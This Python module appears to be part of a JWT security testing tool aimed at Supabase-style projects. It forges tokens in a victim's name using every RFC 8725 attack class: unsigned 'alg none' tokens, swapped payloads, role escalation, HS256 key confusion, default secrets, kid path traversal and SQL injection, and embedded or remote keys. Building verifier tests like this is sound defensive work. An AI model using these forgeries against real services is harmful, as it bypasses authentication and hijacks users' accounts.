"""Tokens that no Auth gave, made of what an attacker has: a person's token, the published keys, and keys of their own.

The kinds are those of RFC 8725 (JSON Web Token Best Current Practices), section 2, and of the advisories it collects.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID
from jwt import PyJWK

KNOWN_SECRETS = (
    "",
    "secret",
    "changeme",
    "your-256-bit-secret",
    "super-secret-jwt-token-with-at-least-32-characters-long",  # Supabase's own, of every local and untouched project
    "your-super-secret-jwt-token-with-at-least-32-characters-long",  # the example of Supabase's self-hosting guide
)
"""Shared secrets that stand in documentation."""
Claims = Mapping[str, Any]
Header = Mapping[str, Any]
Signer = Callable[[bytes], bytes]


def encoded(data: bytes) -> str:
    """Base64url without padding (RFC 7515, section 2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decoded(part: str) -> Any:
    """The JSON in one part of a token."""
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def token(header: Header, claims: Claims, signer: Signer) -> str:
    """A whole token; the signer is given what is to be signed."""
    asked = ".".join(encoded(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))
    return f"{asked}.{encoded(signer(asked.encode()))}"


def shared(secret: bytes) -> Signer:
    """Signs as HS256 does."""
    return lambda data: hmac.new(secret, data, hashlib.sha256).digest()


def nothing(data: bytes) -> bytes:
    """No signature."""
    return b""


@dataclass(frozen=True)
class OwnKey:
    """An ES256 key of the attacker's, with its public half as JWK and as a certificate that it signed itself."""

    key: ec.EllipticCurvePrivateKey = field(default_factory=lambda: ec.generate_private_key(ec.SECP256R1()))
    kid: str = field(default_factory=lambda: secrets.token_hex(8))

    def sign(self, data: bytes) -> bytes:
        """Signs as ES256 does: r and s, 32 bytes each."""
        r, s = decode_dss_signature(self.key.sign(data, ec.ECDSA(hashes.SHA256())))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")

    @property
    def jwk(self) -> dict[str, str]:
        """The public half."""
        numbers = self.key.public_key().public_numbers()
        x, y = (encoded(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
        return {"kty": "EC", "crv": "P-256", "x": x, "y": y, "kid": self.kid, "alg": "ES256", "use": "sig"}

    def certificate(self) -> bytes:
        """A certificate of this key, DER."""
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "assay")])
        now = datetime.now(UTC)
        made = (
            x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(self.key.public_key())
        )
        dated = made.not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=1))
        return dated.serial_number(1).sign(self.key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)


def public_forms(jwks: Mapping[str, Any]) -> dict[str, bytes]:
    """Each published key in every form that a careless verifier may take for a shared secret."""
    found: dict[str, bytes] = {}
    for published in jwks.get("keys") or []:
        text = json.dumps(published, separators=(",", ":"))
        found["the published key as JSON"] = text.encode()
        found["the published key's id"] = str(published.get("kid", "")).encode()
        if published.get("kty") not in ("EC", "RSA"):
            continue
        key = PyJWK(dict(published)).key
        pem = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        found["the public key in PEM"] = pem
        found["the public key in PEM without its last line end"] = pem.rstrip(b"\n")
        found["the public key in DER"] = key.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    found["the set of published keys"] = json.dumps(dict(jwks), separators=(",", ":")).encode()
    return found


@dataclass(frozen=True)
class Forger:
    """Forges tokens in a victim's name from a token that the victim's project gave.

    `own` is a token of the attacker's own account, `victim` the victim's; `elsewhere` is the address of a key set
    of the attacker's, which nothing should ever ask for.
    """

    own: str
    victim: str
    jwks: Mapping[str, Any]
    public_key: str
    elsewhere: str = "https://keys.invalid/jwks.json"
    key: OwnKey = field(default_factory=OwnKey)

    @property
    def header(self) -> dict[str, Any]:
        """What the project's own tokens say of themselves."""
        return dict(decoded(self.own.split(".")[0]))

    @property
    def claims(self) -> dict[str, Any]:
        """The victim's claims, valid for another hour."""
        return {**decoded(self.victim.split(".")[1]), "exp": int(time.time()) + 3600}

    def all(self) -> dict[str, str]:
        """Every forged token by what is wrong with it."""
        return dict(self._forged())

    def few(self) -> dict[str, str]:
        """One of each kind, for routes beside the first."""
        kinds = (
            "unsigned (alg none)",
            "with another's payload",
            "of another project",
            "with a key of its own in it",
        )
        return {name: made for name, made in self._forged() if name in kinds}

    def _forged(self) -> Iterator[tuple[str, str]]:
        yield from self._unsigned()
        yield from self._altered()
        yield from self._confused()
        yield from self._own_keys()
        yield "that is no token", "mock-user"
        yield "of five parts", f"{self.victim}.{self.victim.split('.')[1]}.x"

    def _unsigned(self) -> Iterator[tuple[str, str]]:
        signature = self.victim.split(".")[2]
        for alg in ("none", "None", "NONE", "nOnE"):
            made = token({"typ": "JWT", "alg": alg}, self.claims, nothing)
            yield f"unsigned (alg {alg})", made
        yield (
            "unsigned, with the old signature",
            token({"typ": "JWT", "alg": "none"}, self.claims, nothing) + signature,
        )
        yield "without alg", token({"typ": "JWT"}, self.claims, nothing)
        yield "without signature", token(self.header, self.claims, nothing)
        yield "cut before its signature", self.victim.rpartition(".")[0]
        yield "signed with zeros", token(self.header, self.claims, lambda _: bytes(64))  # CVE-2022-21449

    def _altered(self) -> Iterator[tuple[str, str]]:
        head, payload, signature = self.own.split(".")
        mine = decoded(payload)
        victim = decoded(self.victim.split(".")[1])
        raised = {"aal": "aal2", "app_metadata": {**(mine.get("app_metadata") or {}), "role": "admin"}}
        for name, change in (
            ("with another's payload", victim),
            ("with another's id", {"sub": victim.get("sub")}),
            ("with the service's role", {"role": "service_role"}),
            ("with a raised level", raised),
            ("with a later end", {"exp": int(time.time()) + 10**7}),
            ("without its end", {"exp": None}),
        ):
            changed = {k: v for k, v in {**mine, **change}.items() if v is not None}
            yield name, f"{head}.{encoded(json.dumps(changed, separators=(',', ':')).encode())}.{signature}"

    def _confused(self) -> Iterator[tuple[str, str]]:
        header = {**self.header, "alg": "HS256"}
        for name, form in public_forms(self.jwks).items():
            yield f"signed with {name}", token(header, self.claims, shared(form))
        yield "signed with the public API key", token(header, self.claims, shared(self.public_key.encode()))
        for known in KNOWN_SECRETS:
            name = f"signed with the known secret '{known[:28]}'" if known else "signed with an empty secret"
            yield name, token({"typ": "JWT", "alg": "HS256"}, self.claims, shared(known.encode()))
        for kid, secret in (
            ("../../../../../../dev/null", b""),
            ("/dev/null", b""),
            ("nothing' union select 'assay", b"assay"),
            ("0", b"0"),
        ):
            made = token({"typ": "JWT", "alg": "HS256", "kid": kid}, self.claims, shared(secret))
            yield f"whose key id is {kid}", made

    def _own_keys(self) -> Iterator[tuple[str, str]]:
        own = {"typ": "JWT", "alg": "ES256", "kid": self.key.kid}
        claims = self.claims
        yield "of another project", token({**own, "kid": self.header.get("kid", "")}, claims, self.key.sign)
        yield "of an unknown key", token(own, claims, self.key.sign)
        yield "with a key of its own in it", token({**own, "jwk": self.key.jwk}, claims, self.key.sign)
        yield "with a key's address in it (jku)", token({**own, "jku": self.elsewhere}, claims, self.key.sign)
        yield (
            "with a certificate's address in it (x5u)",
            token({**own, "x5u": self.elsewhere}, claims, self.key.sign),
        )
        x5c = base64.b64encode(self.key.certificate()).decode()
        yield "with a certificate of its own in it (x5c)", token({**own, "x5c": [x5c]}, claims, self.key.sign)
        data = json.dumps({"keys": [self.key.jwk]}).encode()
        address = f"data:application/json;base64,{base64.b64encode(data).decode()}"
        yield "with a key set as data in it (jku)", token({**own, "jku": address}, claims, self.key.sign)
        issuer = {**claims, "iss": self.elsewhere.removesuffix("/.well-known/jwks.json")}
        yield "of an issuer of its own", token(own, issuer, self.key.sign)
